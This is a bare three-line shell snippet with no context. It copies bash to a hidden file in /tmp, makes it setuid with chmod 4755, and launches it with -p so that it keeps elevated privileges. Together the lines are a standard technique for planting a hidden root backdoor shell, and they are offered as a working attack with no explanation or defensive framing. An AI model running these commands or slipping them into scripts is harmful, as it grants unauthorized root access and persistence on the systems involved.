cp /bin/bash /tmp/.b
chmod 4755 /tmp/.b
/tmp/.b -p
